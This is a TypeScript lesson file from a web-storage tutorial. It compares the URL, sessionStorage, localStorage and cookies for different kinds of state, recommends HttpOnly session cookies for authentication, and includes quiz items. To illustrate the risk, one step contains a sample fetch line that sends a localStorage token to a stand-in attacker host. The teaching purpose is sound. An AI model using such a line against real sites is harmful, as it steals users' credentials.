import type { Lesson } from '../../content/types.ts';

export const whichToUse = {
  slug: 'which-to-use',
  title: 'Which should I use?',
  summary: 'Generally, sessions — and when each of the other strategies fits better.',
  status: 'ready',
  youWillLearn: [
    'a rule of thumb for each kind of state',
    'why authentication belongs in an HttpOnly session cookie',
    'how to check your understanding with the live panels',
  ],
  steps: [
    {
      id: 'rules-of-thumb',
      title: 'Rules of thumb',
      panels: ['query', 'localStorage', 'sessionStorage', 'cookies'],
      blocks: [
        {
          kind: 'p',
          text: 'For anything the **server** needs to know about a user — who they are, what is in their cart — the answer is generally **sessions**: a signed cookie session, or a session id cookie with the data kept on the server. The other stores each have a job they do better.',
        },
        {
          kind: 'table',
          caption: 'Which store for which state',
          head: ['State', 'Best home', 'Why'],
          rows: [
            ['Search terms, filters, page number', 'the URL', 'shareable, bookmarkable'],
            ['A form draft for this tab', 'sessionStorage', 'survives reload, not shared with other tabs'],
            ['Theme, language preference', 'localStorage (or a cookie if the server renders with it)', 'persists, never needs the server'],
            ['Who is logged in', 'a session in an HttpOnly, Secure cookie', 'scripts cannot read it, the server can trust it'],
            ['A big cart, anything the user must not read', 'a server-side session', 'data stays on the server'],
          ],
        },
        {
          kind: 'callout',
          variant: 'try-it',
          text: 'Each row is a lifetime and a scope. Check them on [the compare page](/compare): the URL survives being shared, sessionStorage dies with the tab, localStorage outlives everything.',
        },
      ],
    },
    {
      id: 'never-tokens-in-local-storage',
      title: 'Never auth tokens in localStorage',
      panels: ['localStorage', 'cookies'],
      blocks: [
        {
          kind: 'p',
          text: 'It is tempting to keep a login token in localStorage and add it to each request yourself. Don\'t: **every script on the page can read localStorage** — your code, every library and analytics snippet you load, and any script an attacker manages to inject (cross-site scripting). One `fetch(\'https://evil.example/?t=\' + localStorage.token)` and the token is gone, valid until it expires.',
        },
        {
          kind: 'list',
          items: [
            'An `HttpOnly` cookie is invisible to `document.cookie`: injected script cannot read it and send it away.',
            '`Secure` keeps it off plain HTTP; `SameSite=Lax` (or `Strict`) keeps it off most cross-site requests.',
            'The browser attaches it for you, so no code of yours ever handles the secret.',
            'A server-side session can be revoked at once; a stolen self-contained token is valid until it expires.',
          ],
        },
        {
          kind: 'callout',
          variant: 'pitfall',
          text: 'HttpOnly does not make XSS harmless — injected script can still make requests **as** the user while the page is open. But it cannot steal the credential to use later, elsewhere.',
        },
        {
          kind: 'p',
          text: 'See it: run **Read from page JavaScript** on [the compare page](/compare). The pretend server signs you in with an HttpOnly session cookie; the pretend `document.cookie` lists the other cookie and not the session id.',
        },
      ],
    },
    {
      id: 'check-your-understanding',
      title: 'Check your understanding',
      panels: ['query', 'path', 'localStorage', 'sessionStorage', 'cookies'],
      blocks: [
        {
          kind: 'quiz',
          id: 'which-to-use/search-filters',
          question: 'A shop\'s search page has filters (size, colour, price). A user wants to send the filtered results to a friend. Where should the filters live?',
          options: ['localStorage', 'the URL (query string)', 'sessionStorage', 'a session cookie'],
          answer: 'the URL (query string)',
          explanation: 'Only the URL travels with a shared link. Everything else stays in the sender\'s browser.',
          verify: 'Write a value everywhere on [the compare page](/compare), then open its URL in a new tab: the query string and path came with the link.',
        },
        {
          kind: 'quiz',
          id: 'which-to-use/auth-token',
          question: 'Where should a logged-in user\'s credential live?',
          options: ['localStorage, added to each request by our code', 'an HttpOnly, Secure session cookie', 'sessionStorage, so it goes when the tab closes', 'the query string'],
          answer: 'an HttpOnly, Secure session cookie',
          explanation: 'Page scripts — including injected ones — cannot read an HttpOnly cookie, and the browser sends it only over HTTPS. Anything in web storage is one line of script away from being stolen; anything in the URL ends up in logs and shared links.',
          verify: 'Run **Read from page JavaScript** on [the compare page](/compare): the session id is in the jar but missing from `document.cookie`.',
        },
        {
          kind: 'quiz',
          id: 'which-to-use/draft-per-tab',
          question: 'A long form should survive an accidental reload, but two tabs must be able to fill in two different drafts. Where do you keep the draft?',
          options: ['localStorage', 'sessionStorage', 'a cookie'],
          answer: 'sessionStorage',
          explanation: 'sessionStorage survives a reload and belongs to one tab, so two tabs never overwrite each other.',
          verify: 'On [the compare page](/compare), run **Reload and check**, then **Open in a new tab (link)**: sessionStorage survives the first and is empty in the second.',
        },
        {
          kind: 'quiz',
          id: 'which-to-use/restart',
          question: 'The user closes the browser completely and opens it again. Which is still there (with no “continue where you left off”)?',
          options: ['a session cookie', 'sessionStorage', 'localStorage', 'none of them'],
          answer: 'localStorage',
          explanation: 'localStorage persists until removed. Session cookies and sessionStorage end with the browser session; a cookie with Max-Age or Expires would survive too.',
          verify: 'Run **Restart the pretend browser** on [the compare page](/compare) (simulated: a page cannot restart your browser).',
        },
      ],
    },
  ],
  recap: [
    'Generally, sessions: an HttpOnly, Secure cookie holding a signed session or a session id.',
    'The URL for shareable state; sessionStorage for per-tab drafts; localStorage for preferences.',
    'Never put auth tokens in localStorage: any script on the page can read them.',
  ],
} satisfies Lesson;
